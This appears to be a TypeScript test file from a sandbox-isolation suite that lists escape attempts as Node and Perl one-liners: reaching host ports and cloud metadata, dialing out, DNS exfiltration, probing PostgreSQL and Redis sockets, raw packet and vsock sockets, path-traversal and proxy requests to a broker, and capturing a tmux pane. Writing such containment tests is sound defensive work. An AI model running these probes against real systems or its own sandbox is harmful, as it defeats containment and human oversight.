import type { Attempt } from "../attempt.ts";
import { OUTSIDE } from "../victim-servers.ts";

const withAddresses = ({ hasNetwork }: { readonly hasNetwork: boolean }): string | null =>
  hasNetwork ? null : "only root can give this run a network with those addresses";

function reach(host: string, port: number): string {
  return `node -e 'require("net").connect(${port},"${host}").on("error",(e)=>console.log(e.code)).pipe(process.stdout)'`;
}

function speak(socket: string, words: string, answer: string): string {
  return `node -e 'const s=require("net").connect(process.argv[1],()=>s.write(Buffer.from("${words}","latin1"))); s.on("error",(e)=>console.log(e.code)); s.on("data",(d)=>{ if(/${answer}/.test(d)) console.log("BROKE"); s.destroy() })' "${socket}"`;
}

function ask(method: string, paths: readonly string[], ports: readonly number[]): string {
  return `node -e '
    const http=require("http"), paths=${JSON.stringify(paths)};
    const ways=[{socketPath:"/run/factory/broker.sock"},...${JSON.stringify(ports)}.map((port)=>({port,host:"127.0.0.1"}))];
    for (const way of ways) for (const path of paths)
      http.request({...way,path,method:"${method}"},(r)=>{ console.log(path,r.statusCode); if(r.statusCode<300) console.log("BROKE") }).on("error",(e)=>console.log(e.code)).end("x");'`;
}

/** Everything that listens, near and far. */
export const network: readonly Attempt[] = [
  { name: "reach a port of the host", code: ({ port }) => reach("127.0.0.1", port) },
  { name: "reach a port of the host by IPv6", code: ({ port }) => reach("::1", port) },
  {
    name: "ask the cloud's metadata address",
    code: () => reach(OUTSIDE.metadata, 80),
    needs: withAddresses,
  },
  {
    name: "dial out to the internet",
    code: () => reach(OUTSIDE.internet, 80),
    needs: withAddresses,
  },
  {
    name: "carry words out in DNS requests",
    code: () =>
      `node -e 'const s=require("dgram").createSocket("udp4"); s.on("message",(m)=>{console.log(String(m)); s.close()}); s.on("error",(e)=>console.log(e.code)); s.send("secret.example.com",53,"${OUTSIDE.internet}",(e)=>{if(e){console.log(e.code); s.close()}}); setTimeout(()=>process.exit(),1000)'`,
    needs: withAddresses,
  },
  {
    name: "reach an abstract socket of the host",
    code: ({ abstractName }) =>
      `node -e 'require("net").connect({path:"\\0${abstractName}"}).on("error",(e)=>console.log(e.code)).pipe(process.stdout)'`,
  },
  {
    name: "speak to PostgreSQL on its socket",
    code: ({ postgresSocket }) => speak(postgresSocket, "\\0\\0\\0\\b\\x04\\xd2\\x16/", "^[SN]"),
  },
  {
    name: "speak to Redis on its socket",
    code: ({ redisSocket }) => speak(redisSocket, "PING\\r\\n", "PONG|NOAUTH"),
  },
  {
    name: "open a line to the machine around this one (vsock)",
    code: () => `perl -e 'socket(S,40,1,0) or die "$!"; print "BROKE\\n"'`,
  },
  {
    name: "listen to packets of the host",
    code: () => `perl -e 'socket(S,17,3,0x0300) or die "$!"; print "BROKE\\n"'`,
    needs: ({ isRoot }) => (isRoot ? null : "packet sockets are root's"),
  },
  {
    name: "change a network device",
    code: () => "ip link set lo mtu 60000 && echo BROKE && ip link set lo mtu 65536",
    needs: withAddresses,
  },
  {
    name: "read a package from an agent's cell",
    code: ({ registryPort }) =>
      ask("GET", ["/registry/npm/left-pad", "/registry/left-pad"], [registryPort]),
  },
  {
    name: "publish a package",
    code: ({ registryPort }) =>
      ask("PUT", ["/registry/npm/factory-x", "/registry/factory-x"], [registryPort]),
  },
  {
    name: "use the broker as a way to anywhere",
    code: ({ productPort, registryPort }) =>
      ask(
        "GET",
        [
          ...["/metrics", "/health", "/agent/../metrics", "/agent/%2e%2e/metrics", "//metrics"],
          `http://127.0.0.1:${registryPort}/`,
        ],
        [productPort],
      ),
  },
  {
    name: "take over the product's terminal server",
    code: ({ tmuxSocket }) => `tmux -S ${tmuxSocket} capture-pane -p -t held`,
  },
];
